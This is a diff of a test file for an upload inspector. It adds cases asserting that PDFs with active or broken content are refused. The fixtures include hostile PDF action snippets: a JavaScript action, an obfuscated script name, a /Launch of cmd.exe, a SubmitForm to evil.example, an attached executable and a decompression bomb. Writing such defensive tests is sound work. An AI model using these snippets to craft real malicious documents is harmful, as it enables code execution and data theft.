@@ -2,12 +2,15 @@
 import fc from "fast-check";
 import sharp from "sharp";
 import { describe, expect, it } from "vitest";
-import { mp4, photograph, pngThatSays, webm } from "#tests/support/media-bytes";
+import { mp4, pdf, pdfWith, pdfWithStream, photograph, pngThatSays, webm } from "#tests/support/media-bytes";
+import { checkPdf } from "~/features/content/check-pdf.server";
 import { inspectFile } from "~/features/studio/media/inspect-file.server";
 import { RefusedFile } from "~/features/studio/media/media-refusal";
 import { readCaptions } from "~/features/studio/media/read-captions";
 import { readMp4 } from "~/features/studio/media/read-mp4";
 import { readWebm } from "~/features/studio/media/read-webm";
+
+const plainPdf = await pdf();
 
 const refusal = (bytes: Buffer | string) =>
   inspectFile(Buffer.from(bytes)).then(
@@ -78,6 +81,44 @@ describe("what is refused", () => {
     ["a page", () => "<!doctype html><script>x()</script>", "kind"],
     ["a script", () => "alert(1)", "kind"],
     ["a PDF with an archive", () => Buffer.from("%PDF-1.7\n\0PK\u0003\u0004"), "broken"],
+    ["a PDF cut short", async () => (await pdf()).subarray(0, -40), "broken"],
+    [
+      "a PDF with an archive behind it",
+      async () => Buffer.concat([await pdf(), Buffer.from("PK\u0003\u0004")]),
+      "broken",
+    ],
+    ["a PDF that asks for a password", () => pdf({ userPassword: "mat-khau" }), "pdfLocked"],
+    ["a PDF that runs a script", () => pdfWith("<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), "pdfActive"],
+    ["a PDF that hides the script's name", () => pdfWith("<< /S /J#61va#53cript /JS (x) >>"), "pdfActive"],
+    ["a PDF that starts a program", () => pdfWith("<< /S /Launch /F (cmd.exe) >>"), "pdfActive"],
+    [
+      "a PDF that sends what is typed",
+      () => pdfWith("<< /S /SubmitForm /F (https://evil.example) >>"),
+      "pdfActive",
+    ],
+    ["a PDF that carries another file", () => pdf({ attached: "tep.exe" }), "pdfActive"],
+    [
+      "a PDF with its script in a packed stream",
+      () => pdfWithStream("<< /S /JavaScript /JS (x) >>", "/Type /ObjStm /N 1 /First 4"),
+      "pdfActive",
+    ],
+    [
+      "a PDF whose packed stream says that it is something else",
+      () => pdfWithStream("<< /S /JavaScript /JS (x) >>", "/N 1 /First 4"),
+      "pdfActive",
+    ],
+    [
+      "a PDF that hides where its packed stream begins",
+      () => pdfWithStream("<< /S /JavaScript /JS (x) >>", "/Type /ObjStm /N 1 /X (1 0 obj) "),
+      "broken",
+    ],
+    [
+      "a PDF that swells",
+      () => pdfWithStream("a".repeat(40 * 1024 * 1024), "/Type /ObjStm /N 1 /First 4"),
+      "broken",
+    ],
+    ["a PDF of a hundred and one pages", () => pdf({ pages: 101 }), "pdfPages"],
+    ["a PDF without a page", () => pdfWith("<< >>", "%PDF-1.7\n"), "broken"],
     ["1 × 30,000 points", () => pngThatSays(1, 30_000), "pixels"],
     ["30,000 × 1 points", () => pngThatSays(30_000, 1), "pixels"],
     ["100 million points in a small file", () => pngThatSays(9_999, 9_999), "pixels"],
@@ -135,9 +176,11 @@ describe("what is refused", () => {
 });
 
 describe("what is taken", () => {
-  it.each<[string, () => Buffer | string, string]>([
+  it.each<[string, () => Buffer | string | Promise<Buffer>, string]>([
     ["an MP4", mp4, "taken as video/mp4"],
     ["a WebM", webm, "taken as video/webm"],
+    ["a PDF to be read", () => pdf(), "taken as application/pdf"],
+    ["a PDF of a hundred pages", () => pdf({ pages: 100 }), "taken as application/pdf"],
     ["a drawing", () => svg("<rect width='3' height='3'/>"), "taken as image/svg+xml"],
     [
       "captions",
@@ -145,7 +188,7 @@ describe("what is taken", () => {
       "taken as text/vtt",
     ],
   ])("%s", async (_, make, taken) => {
-    expect(await refusal(make())).toBe(taken);
+    expect(await refusal(await make())).toBe(taken);
   });
 
   it("with what a clip says about itself", () => {
@@ -178,6 +221,7 @@ describe("whatever bytes come", () => {
   it.each<[string, (bytes: Buffer) => unknown, fc.Arbitrary<Buffer>]>([
     ["MP4", readMp4, fc.oneof(noise, broken(mp4()))],
     ["WebM", readWebm, fc.oneof(noise, broken(webm()))],
+    ["PDF", (bytes) => checkPdf(bytes), fc.oneof(noise, broken(plainPdf))],
     [
       "captions",
       (bytes) => readCaptions(bytes.toString("utf8")),
